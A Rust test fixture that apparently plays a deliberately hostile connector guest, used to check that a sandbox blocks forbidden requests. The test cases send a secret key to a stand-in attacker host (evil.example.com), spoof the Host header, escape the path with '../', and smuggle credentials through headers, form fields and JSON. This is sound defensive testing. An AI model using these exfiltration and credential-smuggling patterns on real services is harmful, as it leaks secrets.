//! Sends what it may not; the record's id says what.

use hostile::{
    Behaviour, DataRecord, Error, ErrorKind, Guest, Request, SendError, error, internal, record, request, secrets,
    send, with_body,
};

struct Sends;

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";

fn with_header(mut request: Request, name: &str, value: &str) -> Request {
    request.headers.push((name.to_owned(), value.to_owned()));
    request
}

fn outcome(result: Result<hostile::Response, SendError>) -> Result<DataRecord, Error> {
    match result {
        Ok(answer) => Ok(record(format!(
            "{{\"status\":{},\"captured\":\"{}\",\"body\":{}}}",
            answer.status,
            answer.captured.join(","),
            String::from_utf8_lossy(&answer.body)
        ))),
        Err(error) => Err(internal(format!("{error:?}"))),
    }
}

/// Two requests; of a first one that fails, that one's error.
fn both(first: &Request, second: &Request) -> Result<DataRecord, Error> {
    match send(first) {
        Ok(_) => outcome(send(second)),
        failed => outcome(failed),
    }
}

impl Behaviour for Sends {
    fn get(id: String) -> Result<DataRecord, Error> {
        let things = || request("things", "/things", &["key"]);
        let make = || request("make", "/things", &[]);
        match id.as_str() {
            "quota" => return Err(error(ErrorKind::QuotaExhausted(Some(60_000)), String::new())),
            "two writes" => return both(&make(), &make()),
            "a read after a write" => return both(&make(), &things()),
            "sign with a key that verifies" => {
                let part = secrets::Part::Bytes(b"message".to_vec());
                return match secrets::sign("api-key", "hmac-sha256", &[part]) {
                    Ok(_) => Ok(record("{}".to_owned())),
                    Err(error) => Err(internal(format!("{error:?}"))),
                };
            }
            "trap after a write" => {
                let _ = send(&make());
                panic!("on purpose")
            }
            _ => {}
        }
        let asked = match id.as_str() {
            "declared" => things(),
            "declared in the query" => request("query", "/query?a=b", &["query-key"]),
            "declared in the path" => request("path", "/{path-key}/send", &["path-key"]),
            "declared in the form" => {
                with_body(request("form", "/form", &["form-key"]), FORM, "a=b")
            }
            "declared in the body" => {
                let body = "{\"auth\":{\"key\":null}}";
                with_body(request("json", "/json", &["json-key"]), JSON, body)
            }
            "declared as user" => request("user", "/user", &["user-key"]),
            "declared as password" => request("password", "/password", &["password-key"]),
            "captures" => request("token", "/token", &[]),
            "undeclared endpoint" => request("unheard-of", "/things", &[]),
            "another endpoint's path" => request("other", "/things", &[]),
            "another endpoint's secret" => request("other", "/other", &["key"]),
            "undeclared secret use" => request("things", "/things", &["api-key"]),
            "another host" => request("things", "https://evil.example.com/things", &["key"]),
            "another host by slashes" => request("things", "//evil.example.com/things", &["key"]),
            "another host by a user" => request("things", "@evil.example.com/things", &["key"]),
            "a way out of the path" => request("things", "/other/../things", &["key"]),
            "own key header" => with_header(request("things", "/things", &[]), "X-Key", "stolen"),
            "own key parameter" => request("query", "/query?key=stolen", &[]),
            "own key segment" => request("path", "/botstolen/send", &[]),
            "place of a key without the key" => request("path", "/{path-key}/send", &[]),
            "own key field" => with_body(request("form", "/form", &[]), FORM, "key=stolen"),
            "own key field as text" => {
                with_body(request("form", "/form", &[]), "text/plain", "key=stolen")
            }
            "own key member" => {
                let body = "{\"auth\":{\"key\":\"stolen\"}}";
                with_body(request("json", "/json", &[]), JSON, body)
            }
            "own key member twice" => {
                let body = "{\"auth\":{\"key\":\"stolen\",\"key\":null}}";
                with_body(request("json", "/json", &["json-key"]), JSON, body)
            }
            "own credentials" => {
                with_header(request("things", "/things", &[]), "authorization", "Bearer stolen")
            }
            "own user" => {
                let basic = "Basic c3RvbGVuOg==";
                with_header(request("user", "/user", &[]), "Authorization", basic)
            }
            "own password beside the key" => {
                let basic = "Basic bWU6c3RvbGVu";
                with_header(request("password", "/password", &["password-key"]), "authorization", basic)
            }
            "own host" => with_header(things(), "host", "evil.example.com"),
            "origin without a value" => request("instance", "/things", &["key"]),
            "missing secret" => request("things", "/things", &["missing"]),
            "shop" => request("shop", "/things", &["key"]),
            other => return Err(internal(format!("unknown: {other}"))),
        };
        outcome(send(&asked))
    }
}

type Connector = Guest<Sends>;
hostile::export!(Connector with_types_in hostile::bindings);
